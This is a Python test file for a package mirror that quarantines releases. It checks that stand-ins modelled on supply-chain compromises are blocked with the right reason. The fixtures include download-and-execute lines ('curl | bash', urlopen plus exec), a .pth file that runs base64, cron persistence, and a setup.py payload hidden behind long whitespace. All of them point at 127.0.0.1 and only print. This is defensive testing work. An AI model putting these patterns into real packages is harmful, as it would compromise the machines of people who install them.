"""The compromises of 2026 that ran at import, through the real mirror: each shape follows a
clean release of its project, cools past its period, and is held with its reason; ordinary
import-time work in the same position is promoted.

Harmless stand-ins: every URL is a closed port on 127.0.0.1, every payload a print, and
nothing from a test archive is ever imported or run (the archives are only read).
"""

import base64
import subprocess
import urllib.request
from dataclasses import dataclass, field
from datetime import timedelta

import pytest
from packaging.utils import NormalizedName

from conftest import NOW
from quarantine.evidence import Evidence
from quarantine.models import FileRecord, FileState
from support.clock import FakeClock
from support.dists import Dist, build_sdist, build_wheel
from support.ledger_backend import lazaretto_env
from support.mirror import MirrorServer
from support.process import LAZARETTO
from support.upstream import Upstream, UpstreamFile

OLD = NOW - timedelta(days=400)
URL = "https://127.0.0.1:9"  # nothing listens there; nothing here is run anyway
JS_OBFUSCATED = (
    "var _0x3f1a=['\\x62\\x75\\x6e','\\x65\\x76\\x61\\x6c'];"
    + "".join(
        f"function _0x{index:04x}(_0x{index + 1:04x}){{return _0x3f1a[0];}}" for index in range(40)
    )
    + "console.log('a stand-in');\n"
)
HIDDEN = base64.b64encode(b"print('a stand-in')").decode()


@dataclass(frozen=True)
class Shape:
    name: str  # the project, as in the table of issue 15
    clean: dict[str, str]  # modules of the clean previous release
    bad: dict[str, str]  # modules of the release that runs something at import
    extra: dict[str, bytes] = field(default_factory=dict)  # non-module files of the bad one
    sdist: bool = False

    def release(self, version: str, modules: dict[str, str], extra: dict[str, bytes]) -> Dist:
        if self.sdist:
            return build_sdist(self.name, version, modules=modules)
        return build_wheel(self.name, version, modules=modules, extra_files=extra)


def _init(project: str, body: str) -> dict[str, str]:
    return {f"{project.replace('-', '_')}/__init__.py": body}


ORDINARY = "import os\n\n__all__ = ['run']\n\n\ndef run():\n    return os.getcwd()\n"

SHAPES = {
    # mistralai 2.4.6: curl -k fetches a .pyz, the interpreter starts it.
    "mistral-stand-in": Shape(
        "mistral-stand-in",
        _init("mistral-stand-in", ORDINARY),
        _init(
            "mistral-stand-in",
            "import os, subprocess, sys, tempfile\n"
            "_target = os.path.join(tempfile.gettempdir(), 'update.pyz')\n"
            f"subprocess.run(['curl', '-k', '-s', '-o', _target, '{URL}/u.pyz'], check=False)\n"
            "subprocess.Popen([sys.executable, _target])\n",
        ),
    ),
    # guardrails-ai 0.10.1: fetches code over HTTPS and executes it.
    "guard-stand-in": Shape(
        "guard-stand-in",
        _init("guard-stand-in", ORDINARY),
        _init(
            "guard-stand-in",
            "import urllib.request\n\n"
            "def _refresh():\n"
            f"    code = urllib.request.urlopen('{URL}/c.py', timeout=3).read()\n"
            "    exec(code, {})\n\n"
            "_refresh()\n",
        ),
    ),
    # durabletask 1.4.1: writes a decoded blob to the home directory, starts it detached.
    "durable-stand-in": Shape(
        "durable-stand-in",
        _init("durable-stand-in", "from .client import Client\n"),
        {
            "durable_stand_in/__init__.py": (
                "from .client import Client\nfrom ._boot import boot\n\nboot()\n"
            ),
            "durable_stand_in/client.py": "class Client:\n    pass\n",
            "durable_stand_in/_boot.py": (
                "import base64, os, subprocess\n\n"
                f"_BLOB = '{HIDDEN}'\n\n"
                "def boot():\n"
                "    path = os.path.join(os.path.expanduser('~'), '.cache', 'dt-agent')\n"
                "    with open(path, 'wb') as out:\n"
                "        out.write(base64.b64decode(_BLOB))\n"
                "    subprocess.Popen([path], start_new_session=True)\n"
            ),
        },
    ),
    # lightning 2.6.2: a bundled, obfuscated JavaScript file started with Bun on import.
    "lightning-stand-in": Shape(
        "lightning-stand-in",
        _init("lightning-stand-in", ORDINARY),
        _init(
            "lightning-stand-in",
            "import os, subprocess\n"
            "_here = os.path.dirname(__file__)\n"
            "subprocess.Popen(['bun', os.path.join(_here, '_vendor', 'telemetry.js')])\n",
        ),
        extra={"lightning_stand_in/_vendor/telemetry.js": JS_OBFUSCATED.encode()},
    ),
    # MrMustard 0.7.4: an __init__ payload that installs cron persistence.
    "mustard-stand-in": Shape(
        "mustard-stand-in",
        _init("mustard-stand-in", ORDINARY),
        _init(
            "mustard-stand-in",
            "import os\n"
            "os.system('(crontab -l; echo \"*/5 * * * * python3 -c print\") | crontab -')\n",
        ),
    ),
    # pyphetools, embiggen, CoolBox: a <pkg>-setup.pth downloads a runtime at start-up.
    "pheno-stand-in": Shape(
        "pheno-stand-in",
        _init("pheno-stand-in", ORDINARY),
        _init("pheno-stand-in", ORDINARY),
        extra={
            "pheno_stand_in-setup.pth": (
                f"import os; os.system('curl -fsSL {URL}/install | bash >/dev/null 2>&1 &')\n"
            ).encode()
        },
    ),
    # elementary-data 0.23.3: a .pth with base64, from the project's real release workflow.
    "elementary-stand-in": Shape(
        "elementary-stand-in",
        _init("elementary-stand-in", ORDINARY),
        _init("elementary-stand-in", ORDINARY),
        extra={
            "elementary_stand_in.pth": (
                f"import base64; exec(base64.b64decode('{HIDDEN}'))\n"
            ).encode()
        },
    ),
    # A requests fork: a setup.py payload hidden after 434 spaces on an ordinary line.
    "requests-stand-in": Shape(
        "requests-stand-in",
        {"setup.py": "from setuptools import setup\n\nsetup(name='requests-stand-in')\n"},
        {
            "setup.py": "from setuptools import setup\nimport os"
            + " " * 434
            + f"; os.system('curl -s {URL}/p | sh')\n\nsetup(name='requests-stand-in')\n"
        },
        sdist=True,
    ),
}

# (shape, the state it ends in, the rule that gives the reason, other rules that must fire)
HELD = [
    ("mistral-stand-in", FileState.BLOCKED, "import-time-combination", {"import-capability-new"}),
    ("guard-stand-in", FileState.BLOCKED, "import-time-combination", {"import-capability-new"}),
    ("durable-stand-in", FileState.BLOCKED, "import-time-combination", {"import-capability-new"}),
    ("lightning-stand-in", FileState.BLOCKED, "import-capability-new", {"obfuscation-signal"}),
    ("mustard-stand-in", FileState.BLOCKED, "import-time-combination", {"import-capability-new"}),
    ("pheno-stand-in", FileState.BLOCKED, "import-time-combination", {"pth-executable-new"}),
    ("elementary-stand-in", FileState.BLOCKED, "exec-encoded-payload", {"import-time-combination"}),
    ("requests-stand-in", FileState.BLOCKED, "setup-subprocess", {"obfuscation-signal"}),
]

BENIGN = {
    # A new git helper in a function nobody calls at import.
    "git-helper": "import subprocess\n\n"
    "def describe():\n"
    "    done = subprocess.run(['git', 'describe'], capture_output=True, text=True)\n"
    "    return done.stdout.strip()\n",
    # Reading the environment at import.
    "env-reader": "import os\n\n"
    "DEBUG = os.environ.get('ENV_READER_DEBUG') == '1'\n"
    "CONFIG = os.path.join(os.path.expanduser('~'), '.config', 'env-reader.toml')\n",
    # Logging setup at import.
    "log-setup": "import logging\n\n"
    "log = logging.getLogger(__name__)\n"
    "log.addHandler(logging.NullHandler())\n",
    # importlib.metadata.version at import.
    "meta-version": "import importlib.metadata\n\n"
    "__version__ = importlib.metadata.version('meta-version')\n",
}


def _vet(mirror: MirrorServer, upstream: Upstream, clock: FakeClock, old: Dist, new: Dist) -> None:
    """The clean release long established, the new one past its cooling period."""
    project = str(new.project)
    upstream.add(project, UpstreamFile(old, OLD))
    _touch(mirror, project)
    upstream.add(project, UpstreamFile(new, NOW - timedelta(hours=1)))
    clock.advance(timedelta(seconds=61))
    _touch(mirror, project)
    mirror.promote()
    clock.advance(timedelta(days=10))
    for _ in range(2):
        mirror.promote()


def _touch(mirror: MirrorServer, project: str) -> None:
    urllib.request.urlopen(mirror.url + project + "/").close()


def _record(mirror: MirrorServer, dist: Dist) -> FileRecord:
    assert mirror.services is not None
    record = mirror.services.ledger.file(dist.project, dist.filename)
    assert record is not None
    return record


def _content(mirror: MirrorServer, dist: Dist) -> Evidence:
    assert mirror.services is not None
    found = mirror.services.ledger.evidence(NormalizedName(dist.project), dist.filename)
    return {e.check: e for e in found[dist.filename]}["content"]


@pytest.mark.parametrize(("name", "state", "rule", "also"), HELD, ids=[h[0] for h in HELD])
def test_each_2026_shape_is_held_with_its_reason(
    upstream: Upstream,
    mirror: MirrorServer,
    clock: FakeClock,
    name: str,
    state: FileState,
    rule: str,
    also: set[str],
) -> None:
    shape = SHAPES[name]
    old = shape.release("1.0", shape.clean, {})
    new = shape.release("1.1", shape.bad, shape.extra)
    _vet(mirror, upstream, clock, old, new)
    assert _record(mirror, old).state is FileState.PROMOTED
    record = _record(mirror, new)
    assert record.state is state, record.reason
    assert rule in record.reason
    content = _content(mirror, new)
    worst = content.findings[0]
    assert worst.rule == rule and worst.path is not None and worst.line is not None
    assert also <= {f.rule for f in content.findings}
    assert "\x1b" not in worst.message and "\n" not in worst.message


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_ordinary_import_time_work_is_promoted(
    upstream: Upstream, mirror: MirrorServer, clock: FakeClock, name: str
) -> None:
    module = f"{name.replace('-', '_')}/__init__.py"
    old = build_wheel(name, "1.0", modules={module: ORDINARY})
    new = build_wheel(name, "1.1", modules={module: ORDINARY + "\n" + BENIGN[name]})
    _vet(mirror, upstream, clock, old, new)
    record = _record(mirror, new)
    assert record.state is FileState.PROMOTED, record.reason
    content = _content(mirror, new)
    assert all(f.severity.value in ("info", "low") for f in content.findings)
    if name == "git-helper":  # reported, not held: a person can still see it
        (helper,) = [f for f in content.findings if f.rule == "function-capability-new"]
        assert "new since 1.0" in helper.message and "subprocess.run" in helper.message


def test_explain_shows_the_evidence_and_what_it_is_compared_with(
    upstream: Upstream, mirror: MirrorServer, clock: FakeClock
) -> None:
    module = "explained_import/__init__.py"
    old = build_wheel("explained-import", "1.0", modules={module: ORDINARY})
    # a raw escape character in a comment: a terminal must never receive it
    bad = ORDINARY + "import subprocess\nsubprocess.Popen(['id'])  # \x1b[2J\n"
    new = build_wheel("explained-import", "1.1", modules={module: bad})
    _vet(mirror, upstream, clock, old, new)
    assert _record(mirror, new).state is FileState.REVIEW
    done = subprocess.run(
        [
            LAZARETTO,
            "explain",
            "explained-import==1.1",
            "--data-dir",
            str(mirror.settings.data_dir),
        ],
        capture_output=True,
        text=True,
        check=False,
        env=lazaretto_env(mirror.settings.data_dir),
    )
    assert done.returncode == 0, done.stderr
    text = " ".join(done.stdout.split())  # the table folds long lines
    line = ORDINARY.count("\n") + 2
    assert (
        f"new since 1.0: `subprocess.Popen` (process start) at import in `{module}:{line}`" in text
    )
    assert "subprocess.Popen(['id']) # \\x1b[2J" in text  # the excerpt, escaped
    assert "\x1b" not in done.stdout
    assert "compared with: explained_import-1.0-py3-none-any.whl" in text
